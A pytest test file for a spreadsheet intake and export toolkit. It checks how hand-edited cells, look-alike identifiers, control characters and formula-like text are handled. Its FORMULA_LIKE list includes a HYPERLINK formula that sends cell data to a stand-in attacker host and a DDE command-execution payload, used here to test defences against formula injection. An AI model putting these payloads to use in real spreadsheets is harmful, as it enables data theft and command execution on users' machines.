"""Hand-edited cells, and text that goes back out into workbooks and CSV files.

Testers type formulas, error values, booleans, dates and 'inf'; names come back with look-alike
letters and stray spaces; rows and sheets get hidden, cells merged. Each is accepted for what it
means or refused with its sheet and cell. Text written by the toolkit never becomes a formula,
and a control character or a lone surrogate is refused before any file is touched.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner

from criteria.errors import UnsafeTextError
from tender.campaign import Campaign, init_campaign, load_campaign
from tender.cli import cli
from tender.collect import expected_of, make_sheets
from tender.exports import write_csv
from tests import hostile
from vendors import model
from vendors.intake import Expected, Intake, check_workbook
from vendors.workbook import fill_workbook

SCORE = "a whole number from 0 to 5, N/A or an empty cell"
FORMULA = ("a formula saved without its computed value", "the score typed as a value (0 to 5), N/A or an empty cell")


@pytest.fixture(scope="module")
def campaign(tmp_path_factory: pytest.TempPathFactory) -> Campaign:
    """One English campaign for the whole module (V1-V3, T001-T004, the bundled criteria), sheets written."""
    root = tmp_path_factory.mktemp("cells") / "c"
    init_campaign(root, language="en", extra_settings={"campaign_id": "C-test"})
    campaign = load_campaign(root)
    make_sheets(campaign)
    return campaign


@pytest.fixture(scope="module")
def expected(campaign: Campaign) -> Expected:
    return expected_of(campaign)


@pytest.fixture(scope="module")
def template(campaign: Campaign) -> bytes:
    return (campaign.paths.sheets / "T001.xlsx").read_bytes()


def check(data: bytes, expected: Expected, name: str = "T001.xlsx") -> Intake:
    return check_workbook(data, Path(name).suffix, expected, name)


def answered(result: Intake) -> dict[tuple[str, str], tuple[float | None, bool, str]]:
    """The rows that hold something: (vendor, criterion) -> (score, na, comment)."""
    assert result.accepted, result.problems
    return {
        (r.vendor, r.criterion): (r.score, r.na, r.comment)
        for r in result.rows
        if r.score is not None or r.na or r.comment
    }


def problems(result: Intake) -> list[tuple[str | None, str | None, str, str]]:
    assert result.rows == ()
    return [(p.sheet, p.cell, p.found, p.expected) for p in result.problems]


def typed(text: str, reference: str = "E4") -> str:
    """A cell holding ``text`` as the tester typed it (an inline string)."""
    escaped = text.replace("&", "&amp;").replace("<", "&lt;")
    return f'<c r="{reference}" t="inlineStr"><is><t xml:space="preserve">{escaped}</t></is></c>'


def edit(path: Path, target: Path, change) -> bytes:  # type: ignore[no-untyped-def]
    """Edit a workbook with openpyxl as a determined tester would (protection does not stop openpyxl)."""
    wb = openpyxl.load_workbook(path)
    change(wb)
    wb.save(target)
    return target.read_bytes()


# ------------------------------------------------------------------------------------------------- formulas


def test_a_formula_with_its_computed_value_counts_as_that_value(template: bytes, expected: Expected) -> None:
    data = hostile.set_cell(template, "Vendor A", "E4", '<c r="E4"><f>2+2</f><v>4</v></c>')
    data = hostile.set_cell(data, "Vendor A", "E5", '<c r="E5" t="str"><f>"3"</f><v>3</v></c>')
    data = hostile.set_cell(data, "Vendor A", "F5", '<c r="F5" t="str"><f>"fine"&amp;"!"</f><v>fine!</v></c>')
    assert answered(check(data, expected)) == {
        ("V1", "PRO-01"): (4.0, False, ""),
        ("V1", "PRO-02"): (3.0, False, "fine!"),
    }


def test_a_formula_without_its_computed_value_is_named(campaign: Campaign, expected: Expected, tmp_path: Path) -> None:
    """openpyxl (and scripts) save formulas without a value: the reader would see an empty cell."""

    def change(wb: openpyxl.Workbook) -> None:
        wb["Vendor A"]["E4"] = "=2+2"
        wb["Vendor C"]["E6"] = "=AVERAGE(1,5)"

    data = edit(campaign.paths.sheets / "T001.xlsx", tmp_path / "f.xlsx", change)
    assert problems(check(data, expected)) == [("Vendor A", "E4", *FORMULA), ("Vendor C", "E6", *FORMULA)]


def test_a_formula_without_its_value_in_french(tmp_path: Path) -> None:
    init_campaign(tmp_path / "fr", language="fr")
    campaign = load_campaign(tmp_path / "fr")
    make_sheets(campaign)
    title = campaign.vendors[0].name

    def change(wb: openpyxl.Workbook) -> None:
        wb[title]["E4"] = "=1+1"

    data = edit(campaign.paths.sheets / f"{campaign.testers[0].id}.xlsx", tmp_path / "f.xlsx", change)
    assert problems(check(data, expected_of(campaign))) == [
        (
            title,
            "E4",
            "une formule enregistrée sans sa valeur calculée",
            "la note saisie comme valeur (de 0 à 5), N/A ou une cellule vide",
        )
    ]


# ----------------------------------------------------------------------------- error values, booleans, dates


@pytest.mark.parametrize("error", ["#DIV/0!", "#N/A", "#VALUE!", "#REF!", "#NAME?"])
def test_error_values_are_named_not_read_as_empty(template: bytes, expected: Expected, error: str) -> None:
    """The reader shows an error value as an empty cell: the score would silently vanish."""
    cell = f'<c r="E5" t="e"><f>1/0</f><v>{error}</v></c>'
    data = hostile.set_cell(template, "Vendor B", "E5", cell)
    assert problems(check(data, expected)) == [("Vendor B", "E5", error, SCORE)]


def test_error_values_in_an_ods(template: bytes, expected: Expected) -> None:
    """LibreOffice saves an error as an empty string with calcext:value-type="error" and the code as text."""
    grids = hostile.grids_of(template)
    ods = hostile.ods_from_grids(grids)
    content = hostile.members_of(ods)["content.xml"].decode()
    error = (
        '<table:table-cell table:formula="of:=1/0" office:value-type="string" office:string-value="" '
        'xmlns:calcext="urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0" '
        'calcext:value-type="error"><text:p>#DIV/0!</text:p></table:table-cell>'
    )
    table = content.index('table:name="Vendor A"')
    row = content.index("<table:table-row>", table)
    for _ in range(3):  # the fourth row of the sheet: PRO-01
        row = content.index("<table:table-row>", row + 1)
    cells = content.index("<table:table-cell/>", content.index(hostile.ods_cell("PRO-01"), row))
    edited = content[:cells] + error + content[cells + len("<table:table-cell/>") :]
    data = hostile.replace_member(ods, "content.xml", edited)
    assert problems(check(data, expected, "T001.ods")) == [("Vendor A", "E4", "#DIV/0!", SCORE)]


@pytest.mark.parametrize(
    ("cell", "found"),
    [
        pytest.param('<c r="E4" t="b"><v>1</v></c>', "TRUE", id="TRUE"),
        pytest.param('<c r="E4" t="b"><v>0</v></c>', "FALSE", id="FALSE"),
        pytest.param('<c r="E4" t="d"><v>2027-04-05T09:30:00</v></c>', "2027-04-05T09:30:00", id="ISO date"),
        pytest.param('<c r="E4"><v>1e309</v></c>', "inf", id="number inf"),
        pytest.param('<c r="E4"><v>NaN</v></c>', "nan", id="number nan"),
        pytest.param(typed("inf"), '"inf"', id="text inf"),
        pytest.param(typed("-Infinity"), '"-Infinity"', id="text -Infinity"),
        pytest.param(typed("nan"), '"nan"', id="text nan"),
        pytest.param(typed("1e309"), '"1e309"', id="text 1e309"),
        pytest.param(typed("0_4"), '"0_4"', id="digit separator"),
        pytest.param(typed("4\u200b"), '"4[U+200B]"', id="zero-width space"),
        pytest.param(typed("N\uff0fA"), '"N\uff0fA"', id="fullwidth slash"),
        pytest.param(typed("4 stars"), '"4 stars"', id="words"),
    ],
)
def test_values_that_are_not_scores(template: bytes, expected: Expected, cell: str, found: str) -> None:
    data = hostile.set_cell(template, "Vendor A", "E4", cell)
    assert problems(check(data, expected)) == [("Vendor A", "E4", found, SCORE)]


def test_a_date_typed_by_excel(campaign: Campaign, expected: Expected, tmp_path: Path) -> None:
    """Excel turns '4/5' into a date: the tester meant a score, and is told what was found."""

    def change(wb: openpyxl.Workbook) -> None:
        wb["Vendor A"]["E4"] = dt.datetime(2027, 4, 5)

    data = edit(campaign.paths.sheets / "T001.xlsx", tmp_path / "d.xlsx", change)
    assert problems(check(data, expected)) == [("Vendor A", "E4", "2027-04-05", SCORE)]


@pytest.mark.parametrize(
    ("cell", "score", "na"),
    [
        pytest.param(typed(" 4 "), 4.0, False, id="spaces"),
        pytest.param(typed("4\u00a0"), 4.0, False, id="no-break space"),
        pytest.param(typed("\uff14"), 4.0, False, id="fullwidth digit"),
        pytest.param(typed("4e0"), 4.0, False, id="exponent"),
        pytest.param('<c r="E4"><v>-0</v></c>', 0.0, False, id="minus zero"),
        pytest.param(typed(" n/a\u00a0"), None, True, id="n/a with spaces"),
        pytest.param(typed("na"), None, True, id="na"),
    ],
)
def test_spacing_and_look_alike_scores_that_mean_a_score(
    template: bytes, expected: Expected, cell: str, score: float | None, na: bool
) -> None:
    data = hostile.set_cell(template, "Vendor A", "E4", cell)
    assert answered(check(data, expected)) == {("V1", "PRO-01"): (score, na, "")}


# ------------------------------------------------------------------------------------ look-alike identifiers


def test_identifiers_with_stray_spaces_are_still_recognised(template: bytes, expected: Expected) -> None:
    data = hostile.set_cell(template, "Vendor A", "A4", typed(" PRO-01\u00a0", "A4"))
    data = hostile.set_cell(data, "Vendor A", "E4", '<c r="E4"><v>3</v></c>')
    data = hostile.set_cell(data, "Vendor A", "B1", typed("V1 ", "B1"))
    data = hostile.set_cell(data, "tender-meta", "B5", typed("\tT001 ", "B5"))
    assert answered(check(data, expected)) == {("V1", "PRO-01"): (3.0, False, "")}


def test_look_alike_identifiers_are_refused_where_they_are(template: bytes, expected: Expected) -> None:
    """A Unicode hyphen, a Cyrillic letter: they look the same and are not the same identifier."""
    data = hostile.set_cell(template, "Vendor A", "A4", typed("PRO\u201001", "A4"))  # U+2010 HYPHEN
    data = hostile.set_cell(data, "Vendor B", "B1", typed("V\u04302", "B1"))  # not even a Latin letter
    data = hostile.set_cell(data, "tender-meta", "B5", typed("\u0422001", "B5"))  # CYRILLIC CAPITAL TE
    assert problems(check(data, expected)) == [
        ("tender-meta", "B5", "tester ID '\u0422001'", "a tester ID listed in testers.xlsx"),
        ("Vendor B", "B1", '"V\u04302"', "the vendor ID V2 of this sheet; do not edit this cell"),
        (
            "Vendor A",
            "A4",
            "criterion ID 'PRO\u201001'",
            "one of the criterion IDs of this campaign; do not add or edit rows",
        ),
        ("Vendor A", None, "no row for criterion PRO-01", "one row per criterion; do not delete rows"),
    ]


def test_a_renamed_metadata_sheet_is_found_by_its_content(
    campaign: Campaign, expected: Expected, tmp_path: Path
) -> None:
    def change(wb: openpyxl.Workbook) -> None:
        wb["tender-meta"].title = "tender-meta "
        wb["Vendor B"].title = "Vendor\u00a0B"
        wb["Vendor\u00a0B"]["E7"] = 2

    data = edit(campaign.paths.sheets / "T001.xlsx", tmp_path / "m.xlsx", change)
    assert answered(check(data, expected)) == {("V2", "PRO-04"): (2.0, False, "")}


# ------------------------------------------------------------------------------- hidden rows and sheets, merges


def test_hidden_rows_and_sheets_are_read_all_the_same(campaign: Campaign, expected: Expected, tmp_path: Path) -> None:
    def change(wb: openpyxl.Workbook) -> None:
        wb["Vendor A"]["E5"] = 4
        wb["Vendor A"].row_dimensions[5].hidden = True
        wb["Vendor B"]["E4"] = "N/A"
        wb["Vendor B"].sheet_state = "hidden"
        wb["Vendor C"]["E4"] = 1
        wb["Vendor C"].sheet_state = "veryHidden"
        wb["tender-meta"].sheet_state = "visible"

    data = edit(campaign.paths.sheets / "T001.xlsx", tmp_path / "h.xlsx", change)
    assert answered(check(data, expected)) == {
        ("V1", "PRO-02"): (4.0, False, ""),
        ("V2", "PRO-01"): (None, True, ""),
        ("V3", "PRO-01"): (1.0, False, ""),
    }


def test_merged_cells(campaign: Campaign, expected: Expected, tmp_path: Path) -> None:
    """A merge keeps its top-left value: a score merged over its comment loses the comment, nothing else."""
    filled = fill_workbook(
        campaign.paths.sheets / "T001.xlsx",
        tmp_path / "filled.xlsx",
        {"V1": {"PRO-01": (4, "lost in the merge"), "PRO-02": (3, ""), "PRO-03": (2, "kept")}},
    )

    def change(wb: openpyxl.Workbook) -> None:
        ws = wb["Vendor A"]
        ws.merge_cells("E4:F4")  # score and comment
        ws.merge_cells("E5:E6")  # PRO-02's score over PRO-03's

    data = edit(filled, tmp_path / "merged.xlsx", change)
    assert answered(check(data, expected)) == {
        ("V1", "PRO-01"): (4.0, False, ""),
        ("V1", "PRO-02"): (3.0, False, ""),
        ("V1", "PRO-03"): (None, False, "kept"),
    }


def test_merged_identifiers_leave_a_score_without_its_row(
    campaign: Campaign, expected: Expected, tmp_path: Path
) -> None:
    filled = fill_workbook(campaign.paths.sheets / "T001.xlsx", tmp_path / "f.xlsx", {"V1": {"PRO-02": (5, "")}})

    def change(wb: openpyxl.Workbook) -> None:
        wb["Vendor A"].merge_cells("A4:A5")

    assert problems(check(edit(filled, tmp_path / "m.xlsx", change), expected)) == [
        ("Vendor A", "E5", "the score 5 on a row without a criterion ID", "scores only on the rows of the criteria"),
        ("Vendor A", None, "no row for criterion PRO-02", "one row per criterion; do not delete rows"),
    ]


def test_invisible_characters_in_a_comment_are_kept_out(template: bytes, expected: Expected) -> None:
    """Control characters (an escaped BEL from a hand-edited file) never reach the ledger, the PDF or an export."""
    data = hostile.set_cell(template, "Vendor A", "F4", typed("bell_x0007_here\ttab\nline", "F4"))
    data = hostile.set_cell(data, "Vendor A", "E4", '<c r="E4"><v>2</v></c>')
    assert answered(check(data, expected)) == {("V1", "PRO-01"): (2.0, False, "bell here\ttab\nline")}


# ---------------------------------------------------------------------------- text written back out: workbooks

FORMULA_LIKE = [
    '=HYPERLINK("http://attacker.invalid/?leak="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def _every_string(data: bytes) -> list[str]:
    """All the cell texts of a workbook, and fail if any cell holds a formula."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), name
                assert b"<f " not in archive.read(name), name
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def test_names_that_look_like_formulas_are_written_as_text(tmp_path: Path) -> None:
    vendors = tuple(model.Vendor(f"V{i}", name, 1000.0, 5.0, 0.0) for i, name in enumerate(FORMULA_LIKE, start=1))
    testers = (model.Tester("T001", "=1+1", "t@example.org", {}), model.Tester("T002", "@me", "", {}))
    root = init_campaign(tmp_path / "c", vendors=vendors, testers=testers).root
    result = CliRunner().invoke(cli, ["sheets", str(root)])
    assert result.exit_code == 0, result.output
    data = (root / "sheets" / "T001.xlsx").read_bytes()
    texts = _every_string(data)
    assert "=1+1 (T001)" in texts
    # Each vendor sheet shows its vendor's name (read back stripped, as every cell is) as a string cell.
    wb = openpyxl.load_workbook(io.BytesIO(data))
    shown = {ws["B1"].value: (ws["C1"].value, ws["C1"].data_type) for ws in wb.worksheets if ws["A1"].value == "Vendor"}
    assert shown == {f"V{i}": (name.strip(), "s") for i, name in enumerate(FORMULA_LIKE, start=1)}


def _patch_shared_text(path: Path, old: str, new: str) -> None:
    """Put an escaped character (e.g. '_x0007_') into a cell of an xlsx the way a hand-edited file carries it."""
    data = path.read_bytes()
    for name, content in hostile.members_of(data).items():
        if old.encode() in content:
            path.write_bytes(hostile.replace_member(data, name, content.replace(old.encode(), new.encode())))
            return
    raise AssertionError(f"{old!r} not found in {path.name}")


def test_a_control_character_in_a_tester_name_stops_before_any_workbook_is_written(tmp_path: Path) -> None:
    testers = tuple(model.Tester(f"T00{i}", f"Tester {i}", "", {}) for i in range(1, 5))
    root = init_campaign(tmp_path / "c", testers=testers).root
    _patch_shared_text(root / "testers.xlsx", "Tester 3", "Tester_x0007_3")
    result = CliRunner().invoke(cli, ["sheets", str(root)])
    assert result.exit_code == 2
    # Refused as testers.xlsx is read, at its cell, as `tender check` does, before any workbook is written.
    assert result.output.endswith(
        "Error: name contains a control character (U+0007); remove it (testers.xlsx, sheet Testers, cell B4)\n"
    )
    assert sorted(p.name for p in (root / "sheets").iterdir()) == []


def test_a_lone_surrogate_in_the_campaign_name_stops_before_any_file(tmp_path: Path) -> None:
    root = init_campaign(tmp_path / "c").root
    config = (root / "tender.yaml").read_text(encoding="utf-8")
    name_line = next(line for line in config.splitlines() if line.startswith("name:"))
    (root / "tender.yaml").write_text(config.replace(name_line, 'name: "Pilot \\uD800 2027"'), encoding="utf-8")
    result = CliRunner().invoke(cli, ["sheets", str(root)])
    assert result.exit_code == 2
    assert result.output.endswith(
        "Error: tender.yaml: key 'name' contains an invalid character (a lone surrogate); retype it\n"
    )
    assert list((root / "sheets").iterdir()) == []


# ---------------------------------------------------------------------------------- text written back out: CSV


def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    frame = pd.DataFrame({"name": FORMULA_LIKE, "score": [1.5, -2.0, 3.0, 4.0, 5.0, 6.0, -7.0]})
    path = write_csv(frame, tmp_path / "out.csv")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["name", "score"]
    assert [r[0] for r in rows[1:]] == ["'" + name for name in FORMULA_LIKE]
    assert [r[1] for r in rows[1:]] == ["1.5", "-2.0", "3.0", "4.0", "5.0", "6.0", "-7.0"]  # numbers stay numbers


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("Acme\x07", "out.csv, column name, row 2 contains the control character U+0007; remove it"),
        ("Acme\x00", "out.csv, column name, row 2 contains the control character U+0000; remove it"),
        ("Acme \ud800", "out.csv, column name, row 2 contains an invalid character (a lone surrogate); retype it"),
    ],
)
def test_csv_refuses_control_characters_and_lone_surrogates_before_writing(
    tmp_path: Path, text: str, message: str
) -> None:
    frame = pd.DataFrame({"name": ["Fine", text], "score": [1.0, 2.0]})
    with pytest.raises(UnsafeTextError) as raised:
        write_csv(frame.iloc[[1, 0]].reset_index(drop=True), tmp_path / "out.csv")
    assert str(raised.value) == message
    assert list(tmp_path.iterdir()) == []


def test_problem_texts_written_back_are_text(tmp_path: Path) -> None:
    """The problems workbook quotes what testers typed and the file names they chose: never as formulas."""
    root = init_campaign(tmp_path / "c").root
    assert CliRunner().invoke(cli, ["sheets", str(root)]).exit_code == 0
    name = '=HYPERLINK(A1,"click").xlsx'
    data = hostile.set_cell((root / "sheets" / "T001.xlsx").read_bytes(), "Vendor A", "E4", typed("=1+1_x0007_"))
    (root / "inbox" / name).write_bytes(data)
    result = CliRunner().invoke(cli, ["collect", str(root)])
    assert result.exit_code == 1
    assert f'  {name}, sheet Vendor A, cell E4: found "=1+1[U+0007]"; expected {SCORE}\n' in result.output
    texts = _every_string((root / "out" / "collect-problems.xlsx").read_bytes())
    t001 = load_campaign(root).testers[0]
    assert [name, "T001", t001.name, t001.email, "Vendor A", "E4", '"=1+1[U+0007]"', SCORE] == texts[8:16]
